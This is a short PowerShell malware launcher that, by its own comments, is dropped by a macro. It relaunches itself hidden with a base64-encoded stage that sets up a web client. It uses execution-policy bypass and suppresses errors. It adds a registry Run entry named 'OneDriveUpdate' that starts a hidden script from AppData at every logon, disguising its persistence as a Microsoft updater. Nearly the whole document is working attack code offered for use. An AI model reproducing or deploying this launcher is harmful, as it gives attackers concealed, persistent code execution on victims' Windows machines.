# Stage-1 launcher dropped by a macro. Re-launches itself hidden with an encoded block
# and keeps a copy of the launch line in the registry for the next logon.
$ErrorActionPreference = 'SilentlyContinue'

$stage = 'JABjAD0ATgBlAHcALQBPAGIAagBlAGMAdAAgAE4AZQB0AC4AVwBlAGIAQwBsAGkAZQBuAHQAOwAkAGMALgBIAGUAYQBkAGUAcgBzAC4AQQBkAGQAKAAnAFUAcwBlAHIALQBBAGcAZQBuAHQAJwAsACcATQBvAHoAaQBsAGwAYQAvADUALgAwACcAKQA='

if ($PSVersionTable.PSVersion.Major -ge 3) {
    Start-Process -FilePath "$env:windir\System32\WindowsPowerShell\v1.0\powershell.exe" -ArgumentList "-NoP -sta -NonI -W Hidden -Enc $stage" -WindowStyle Hidden
}
else {
    & powershell.exe -nop -w hidden -ep bypass -enc $stage
}

$launcher = "powershell.exe -NoProfile -WindowStyle Hidden -File `"$env:APPDATA\Microsoft\Windows\upd.ps1`""
New-ItemProperty -Path 'HKCU:\Software\Microsoft\Windows\CurrentVersion\Run' -Name 'OneDriveUpdate' -Value $launcher -PropertyType String -Force | Out-Null

cmd.exe /c "powershell -NoProfile -WindowStyle Hidden -EncodedCommand $stage"
